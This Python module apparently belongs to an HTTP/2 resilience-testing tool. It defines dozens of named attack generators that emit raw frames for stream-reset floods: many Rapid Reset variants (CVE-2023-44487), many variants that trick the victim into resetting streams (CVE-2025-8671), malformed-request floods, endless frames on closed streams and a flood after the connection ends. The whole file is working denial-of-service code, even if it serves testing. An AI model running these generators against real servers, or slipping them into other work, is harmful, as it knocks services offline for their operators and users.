"""Streams that are opened and reset, and frames that make the victim reset them."""

from __future__ import annotations

from itertools import count, cycle, islice

from . import messages, wire
from .attack import Frames, Role, attack
from .messages import GET, POST, RESPONSE
from .wire import literal

RESET, MADE_RESET = "CVE-2023-44487", "CVE-2025-8671"
#: Streams that are open while each of them is attacked repeatedly.
MANY = 5000
MANY_STREAMS = {wire.MAX_CONCURRENT_STREAMS: 2 * MANY}
#: Streams that are reset; if an application allows more at a time, more may be reset.
SOME = 1000
SOME_STREAMS = {wire.MAX_CONCURRENT_STREAMS: SOME + 100}
BOTH: tuple[Role, ...] = ("server", "client")


# The peer resets what it has opened.


@attack("rapid-reset", "requests, each reset immediately", cve=RESET)
def rapid_reset() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True) + wire.rst_stream(stream_id)


@attack("rapid-reset-ordinary", "a browser's requests, each reset immediately", cve=RESET)
def rapid_reset_ordinary() -> Frames:
    for stream_id, request in zip(wire.odd_numbers(), messages.ordinary_requests(), strict=False):
        yield request + wire.rst_stream(stream_id)


@attack("rapid-reset-open", "requests with content to come, each reset immediately", cve=RESET)
def rapid_reset_open() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, POST) + wire.rst_stream(stream_id)


@attack("rapid-reset-data", "requests with one octet of content, each reset then", cve=RESET)
def rapid_reset_data() -> Frames:
    for stream_id in wire.odd_numbers():
        yield (
            wire.headers(stream_id, POST) + wire.data(stream_id, b"x") + wire.rst_stream(stream_id)
        )


@attack("rapid-reset-no-error", "requests, each reset with NO_ERROR", cve=RESET)
def rapid_reset_no_error() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True) + wire.rst_stream(stream_id, 0)


@attack("rapid-reset-batches", "a hundred requests, then a hundred resets", cve=RESET)
def rapid_reset_batches() -> Frames:
    ids = wire.odd_numbers()
    while batch := list(islice(ids, 100)):
        yield b"".join(wire.headers(stream_id, GET, end=True) for stream_id in batch)
        yield b"".join(map(wire.rst_stream, batch))


@attack("rapid-reset-priority", "requests with priority fields, each reset immediately", cve=RESET)
def rapid_reset_priority() -> Frames:
    fields = wire.priority_fields(0)
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True, priority=fields) + wire.rst_stream(stream_id)


@attack("rapid-reset-gaps", "the same, with identifiers left out", cve=RESET)
def rapid_reset_gaps() -> Frames:
    for stream_id in count(1, 6):
        yield wire.headers(stream_id, GET, end=True) + wire.rst_stream(stream_id)


@attack("responses-reset", "each of many responses begins and is reset", ("client",), streams=MANY)
def responses_reset() -> Frames:
    for stream_id in islice(wire.odd_numbers(), MANY):
        yield wire.headers(stream_id, RESPONSE) + wire.rst_stream(stream_id)


@attack(
    "reset-all",
    f"{SOME:,} requests, then as many resets, repeatedly",
    cve=RESET,
    own_settings=SOME_STREAMS,
)
def reset_all() -> Frames:
    ids = wire.odd_numbers()
    while batch := list(islice(ids, SOME)):
        yield b"".join(wire.headers(stream_id, POST) for stream_id in batch)
        yield b"".join(map(wire.rst_stream, batch))


@attack("reset-refused", "REFUSED_STREAM on each of many open streams", ("client",), streams=MANY)
def reset_refused() -> Frames:
    for stream_id in islice(wire.odd_numbers(), MANY):
        yield wire.rst_stream(stream_id, 7)


@attack("reset-again", "RST_STREAM on one stream repeatedly", BOTH, streams=1)
def reset_again() -> Frames:
    while True:
        yield wire.rst_stream(1)


@attack("reset-idle", "RST_STREAM on streams that were never opened", BOTH)
def reset_idle() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.rst_stream(stream_id)


@attack("streams-too-many", "requests above the announced limit, none of which ends")
def streams_too_many() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, POST)


@attack("requests-unanswered", "complete requests without end")
def requests_unanswered() -> Frames:
    yield from messages.ordinary_requests()


@attack("identifier-gaps", "requests whose identifiers leave gaps")
def identifier_gaps() -> Frames:
    for stream_id in count(1, 4):
        yield wire.headers(stream_id, GET, end=True)


# The peer makes the victim reset streams.


@attack("made-reset-increment-zero", "requests, then WINDOW_UPDATE of 0", cve=MADE_RESET)
def increment_zero() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True) + wire.window_update(stream_id, 0)


@attack(
    "made-reset-increment-zero-all",
    f"{SOME:,} requests, then WINDOW_UPDATE of 0 on all, repeatedly",
    cve=MADE_RESET,
    own_settings=SOME_STREAMS,
)
def increment_zero_all() -> Frames:
    ids = wire.odd_numbers()
    while batch := list(islice(ids, SOME)):
        yield b"".join(wire.headers(stream_id, POST) for stream_id in batch)
        yield b"".join(wire.window_update(stream_id, 0) for stream_id in batch)


@attack(
    "made-reset-requests",
    "WINDOW_UPDATE of 0 on each of many requests",
    ("client",),
    cve=MADE_RESET,
    streams=MANY,
)
def increment_zero_on_requests() -> Frames:
    for stream_id in islice(wire.odd_numbers(), MANY):
        yield wire.window_update(stream_id, 0)


@attack("made-reset-window-overflow", "requests, then a window above 2**31-1", cve=MADE_RESET)
def window_overflow() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True)
        yield wire.window_update(stream_id, wire.LARGEST)


@attack("made-reset-data-after-end", "requests, then DATA after END_STREAM", cve=MADE_RESET)
def data_after_end() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True) + wire.data(stream_id)


@attack("made-reset-headers-after-end", "requests, then HEADERS after END_STREAM", cve=MADE_RESET)
def headers_after_end() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True) + wire.headers(stream_id, GET, end=True)


@attack("made-reset-priority-length", "requests, then PRIORITY of four octets", cve=MADE_RESET)
def priority_length() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True)
        yield wire.frame(wire.PRIORITY, 0, stream_id, bytes(4))


@attack("made-reset-priority-self", "requests, then PRIORITY on itself", cve=MADE_RESET)
def priority_self() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, GET, end=True) + wire.priority(stream_id, stream_id)


@attack("made-reset-headers-priority-self", "requests that depend on themselves", cve=MADE_RESET)
def headers_priority_self() -> Frames:
    for stream_id in wire.odd_numbers():
        fields = wire.priority_fields(stream_id)
        yield wire.headers(stream_id, GET, end=True, priority=fields)


@attack("made-reset-too-much-content", "more content than content-length says", cve=MADE_RESET)
def too_much_content() -> Frames:
    request = POST + literal(b"content-length", b"1")
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, request) + wire.data(stream_id, b"xx")


@attack("made-reset-too-little-content", "less content than content-length says", cve=MADE_RESET)
def too_little_content() -> Frames:
    request = POST + literal(b"content-length", b"9")
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, request) + wire.data(stream_id, b"x", end=True)


@attack("made-reset-trailers-open", "trailers without END_STREAM", cve=MADE_RESET)
def trailers_open() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, POST) + wire.headers(stream_id, literal(b"a", b"b"))


@attack("made-reset-padding", "HEADERS with more padding than payload", cve=MADE_RESET)
def headers_padding() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.frame(wire.HEADERS, wire.END_HEADERS | wire.PADDED, stream_id, b"\xff" + GET)


@attack(
    "made-reset-stream-window",
    "more content than the window of the stream",
    cve=MADE_RESET,
    own_settings={wire.INITIAL_WINDOW_SIZE: 1},
)
def stream_window() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, POST) + wire.data(stream_id, b"xx")


@attack(
    "made-reset-promised-method",
    "promises of requests that must not be promised",
    ("client",),
    cve=MADE_RESET,
    streams=1,
)
def promised_method() -> Frames:
    for promised in count(2, 2):
        yield wire.push_promise(1, promised, POST + literal(b"content-length", b"5"))


def _malformed(name: str, words: str, block: bytes) -> None:
    """Malformed requests, each of which at least resets its stream."""

    def frames() -> Frames:
        for stream_id in wire.odd_numbers():
            yield wire.headers(stream_id, block, end=True)

    attack(f"malformed-{name}", f"requests {words}", cve=MADE_RESET)(frames)


_malformed("upper-case", "with a name in upper case", GET + literal(b"A", b"b"))
_malformed("connection", "with connection-specific fields", GET + literal(b"connection", b"close"))
_malformed("te", "with te: gzip", GET + literal(b"te", b"gzip"))
_malformed("no-path", "without :path", messages.METHOD_GET + messages.SCHEME_HTTPS)
_malformed("two-paths", "with two paths", GET + messages.PATH_ROOT)
_malformed("late-pseudo", "with a late :path", GET[:2] + literal(b"a", b"b") + messages.PATH_ROOT)
_malformed("status", "with :status", GET + RESPONSE)
_malformed("value", "with NUL in a value", GET + literal(b"a", b"\0"))
_malformed("value-cr", "with CR in a value", GET + literal(b"a", b"b\rc"))
_malformed("empty-name", "with an empty name", GET + literal(b"", b"b"))
_malformed("two-hosts", "with host and another :authority", GET + literal(b"host", b"example.org"))
_malformed(
    "method",
    "with a method that is not a token",
    literal(2, b"G E T") + messages.SCHEME_HTTPS + messages.AUTHORITY + messages.PATH_ROOT,
)
_malformed(
    "content-length",
    "with two values of content-length",
    GET + literal(b"content-length", b"1") + literal(b"content-length", b"2"),
)


# Frames that come late.


def _late(name: str, words: str, piece: bytes, *, first: bytes) -> None:
    """One frame makes the victim reset stream 1; then another kind follows forever."""

    def frames() -> Frames:
        yield first
        while True:
            yield piece

    attack(f"late-{name}", f"{words} on a stream that we reset", BOTH, streams=1)(frames)


for _name, _words, _piece in (
    ("data", "DATA of one octet", wire.data(1, b"x")),
    ("empty-data", "empty DATA", wire.data(1)),
    ("padding", "DATA with only padding", wire.data(1, pad=255)),
    ("window-update", "WINDOW_UPDATE", wire.window_update(1, 1)),
    ("window-update-zero", "WINDOW_UPDATE of 0", wire.window_update(1, 0)),
    ("priority", "PRIORITY", wire.priority(1)),
    ("headers", "trailers", wire.headers(1, literal(b"a", b"b"), end=True)),
    ("headers-large", "trailers of 16 KB", wire.headers(1, literal(b"a", bytes(16000)), end=True)),
    ("altsvc", "ALTSVC", wire.altsvc(1, b"", b"h2=a")),
):
    _late(_name, _words, _piece, first=wire.window_update(1, 0))


@attack("closed-window-update", "WINDOW_UPDATE on streams that have ended")
def closed_window_update() -> Frames:
    for stream_id in islice(wire.odd_numbers(), 50):
        yield wire.headers(stream_id, GET, end=True)
    for stream_id in cycle(range(1, 100, 2)):
        yield wire.window_update(stream_id, 1)


@attack("closed-priority", "PRIORITY on streams that have ended")
def closed_priority() -> Frames:
    for stream_id in islice(wire.odd_numbers(), 50):
        yield wire.headers(stream_id, GET, end=True)
    for stream_id in cycle(range(1, 100, 2)):
        yield wire.priority(stream_id)


@attack("closed-data", "DATA on streams that have ended")
def closed_data() -> Frames:
    for stream_id in islice(wire.odd_numbers(), 50):
        yield wire.headers(stream_id, GET, end=True)
    for stream_id in cycle(range(1, 100, 2)):
        yield wire.data(stream_id)


@attack("closed-headers", "HEADERS on responses that have ended", ("client",), streams=1)
def closed_headers() -> Frames:
    yield wire.headers(1, RESPONSE, end=True)
    while True:
        yield wire.headers(1, RESPONSE, end=True)


@attack("closed-client-data", "DATA on a response that has ended", ("client",), streams=1)
def closed_client_data() -> Frames:
    yield wire.headers(1, RESPONSE, end=True)
    while True:
        yield wire.data(1)


@attack("after-the-end", "frames after one that ends the connection", BOTH, cve="CVE-2026-27135")
def after_the_end() -> Frames:
    yield wire.frame(wire.PING, 0, 0, bytes(7))
    while True:
        yield wire.ping() + wire.settings((wire.INITIAL_WINDOW_SIZE, 1))
